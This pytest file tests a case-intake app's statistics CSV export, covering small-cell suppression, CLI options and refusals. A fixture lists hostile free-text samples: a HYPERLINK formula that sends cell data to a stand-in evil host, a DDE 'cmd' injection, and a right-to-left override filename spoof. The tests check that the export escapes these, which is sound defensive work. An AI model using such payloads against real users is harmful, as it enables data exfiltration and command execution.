"""The statistics CSV: small cells suppressed (and their complements), the header says so,
formula injection and direction overrides in free-text places neutralised; the CLI's
`stats` options and refusals."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
import stats_cases

from intake_app.cases.store import CaseStore
from intake_app.reports.stats import compute_stats
from intake_app.reports.stats_csv import (
    COUNT_EXACT,
    COUNT_SUPPRESSED,
    stats_rows,
    suppress_table,
    write_stats_csv,
)
from intake_app.vault import Vault


def read_csv(path: Path) -> tuple[list[str], list[list[str]]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets then read UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    return rows[0], rows[1:]


def test_cells_below_5_are_suppressed():
    assert suppress_table({"a": 4, "b": 5, "c": 0}, None) == {"a": "<5", "b": 5, "c": "<5"}


def test_a_lone_suppressed_cell_of_a_published_total_takes_its_smallest_neighbour():
    cells = {"male": 178, "female": 12, "other": 3}
    assert suppress_table(cells, 193) == {"male": 178, "female": "<5", "other": "<5"}


def test_two_suppressed_cells_need_no_complement():
    cells = {"a": 1, "b": 2, "c": 30}
    assert suppress_table(cells, 33) == {"a": "<5", "b": "<5", "c": 30}


def test_no_complement_when_the_total_itself_is_suppressed():
    assert suppress_table({"a": 3, "b": 0}, 3) == {"a": "<5", "b": "<5"}


@pytest.fixture(scope="module")
def hand_stats(tmp_path_factory: pytest.TempPathFactory) -> dict:
    vault = Vault.create(tmp_path_factory.mktemp("csv") / "v", "csv test passphrase long",
                         name="Coord", role="coordinator")  # fmt: skip
    try:
        store = CaseStore(vault, clock=stats_cases.ticking_clock())
        stats_cases.build(store)
        rules = [r.id for r in store.shelf.current().red_flag_rules]
        return compute_stats(vault.conn, rules=rules)
    finally:
        vault.close()


def test_csv_suppresses_small_cells_and_says_so(tmp_path, hand_stats):
    out = tmp_path / "stats.csv"
    count = write_stats_csv(out, hand_stats)
    header, rows = read_csv(out)
    assert header[-1] == COUNT_SUPPRESSED and "<5" in header[-1]
    assert len(rows) == count
    cells = {(r[0], r[1]): r[5] for r in rows}
    assert cells[("overview", "cases")] == "8"
    assert cells[("by_city.cases", "kz.city.uralsk")] == "<5"
    assert all(r[5] == "<5" or int(r[5]) >= 5 for r in rows)
    uralsk = next(r for r in rows if r[1] == "kz.city.uralsk")
    assert uralsk[2:5] == ["Uralsk", "Уральск", "Орал"]


def test_csv_no_suppress_gives_exact_counts(tmp_path, hand_stats):
    out = tmp_path / "exact.csv"
    write_stats_csv(out, hand_stats, suppress=False)
    header, rows = read_csv(out)
    assert header[-1] == COUNT_EXACT
    cells = {(r[0], r[1]): r[5] for r in rows}
    assert cells[("by_city.cases", "kz.city.uralsk")] == "3"
    assert cells[("by_city.terminated", "(unknown)")] == "0"
    assert cells[("by_sex", "male")] == "6"
    assert "<5" not in {r[5] for r in rows}


def test_every_count_of_the_json_is_in_the_csv(hand_stats):
    rows = {(r[0], r[1]): r[5] for r in stats_rows(hand_stats, suppress=False)}
    assert rows[("overview", "fme_not_conducted")] == hand_stats["fme_not_conducted"]
    assert rows[("by_period.kui_only", "2022-01")] == 1
    assert rows[("themes", "health_care_in_detention")] == 2
    assert rows[("by_region.cases", "(unknown)")] == hand_stats["region_unknown"]


# -- through the CLI ------------------------------------------------------------------------

HOSTILE_PLACES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "evil\u202etxt.exe",
                  "+cmd|' /C calc'!A0"]  # fmt: skip


PASSPHRASE = "csv cli test passphrase long"


@pytest.fixture(scope="module")
def hostile_vault(tmp_path_factory: pytest.TempPathFactory) -> list:
    """A vault (made in process, closed) whose cases name hostile free-text places; returns
    the CLI's global options for it."""
    folder = tmp_path_factory.mktemp("hostile") / "vault"
    vault = Vault.create(folder, PASSPHRASE, name="Coord", role="coordinator")
    try:
        store = CaseStore(vault)
        for number, place in enumerate(HOSTILE_PLACES):
            store.new_case({
                "consent.interview": "yes", "victim.pseudonym": f"P{number}",
                "victim.sex": "male", "incident.date": "2022-01-05",
                "incident.city": {"text": place},
            })  # fmt: skip
    finally:
        vault.close()
    secret = folder.parent / "passphrase.txt"
    secret.write_text(PASSPHRASE + "\n", encoding="utf-8")
    return ["--vault", folder, "--passphrase-file", secret]


def test_csv_formula_injection_in_a_free_text_place_is_escaped(run_cli, hostile_vault,
                                                               tmp_path):  # fmt: skip
    out = tmp_path / "out.csv"
    result = run_cli([*hostile_vault, "stats", "--csv", out, "--no-suppress"])
    assert result.returncode == 0, result.stderr
    assert "Wrote" in result.stderr and result.stdout == ""
    _header, rows = read_csv(out)
    keys = [r[1] for r in rows if r[0] == "by_city.cases"]
    assert any(k.startswith("'=hyperlink(") for k in keys)
    assert any(k.startswith("'+cmd|") for k in keys)
    assert not any(k and k[0] in "=+-@" for r in rows for k in r)


def test_csv_direction_override_in_a_place_is_shown_not_obeyed(run_cli, hostile_vault,
                                                               tmp_path):  # fmt: skip
    out = tmp_path / "out.csv"
    assert run_cli([*hostile_vault, "stats", "--csv", out]).returncode == 0
    text = out.read_bytes().decode("utf-8-sig")
    assert "\u202e" not in text and "evil⟨U+202E⟩txt.exe" in text


def test_stats_json_keeps_free_text_places_apart_and_exact(run_cli, hostile_vault):
    result = run_cli([*hostile_vault, "stats", "--json"])
    stats = json.loads(result.stdout)
    assert stats["cases"] == 3 and len(stats["by_city"]) == 3
    assert "evil\u202etxt.exe" in stats["by_city"]  # JSON keeps data exact; readers escape


@pytest.mark.parametrize(
    ("args", "code", "words"),
    [
        (["stats", "--from", "2022-13"], 2, "--from"),
        (["stats", "--from", "2023", "--to", "2022"], 2, "empty"),
        (["stats", "--theme", "elections"], 2, "invalid choice"),
        (["stats", "--csv", "/nonexistent-folder-h11/x.csv"], 2, "does not exist"),
        (["stats", "--csv", "."], 2, "folder"),
    ],
)
def test_stats_cli_refusals(run_cli, hostile_vault, args, code, words):
    result = run_cli([*hostile_vault, *args])
    assert result.returncode == code
    assert words in result.stderr and "Traceback" not in result.stderr


def test_stats_cli_summary_and_filters(run_cli, hostile_vault):
    text = run_cli([*hostile_vault, "stats"]).stdout
    assert text.startswith("Cases: 3\n") and "Red flags:" in text
    assert "\u202e" not in text  # the terminal summary shows controls as tokens
    filtered = run_cli([*hostile_vault, "stats", "--json", "--from", "2023"])
    assert json.loads(filtered.stdout)["cases"] == 0
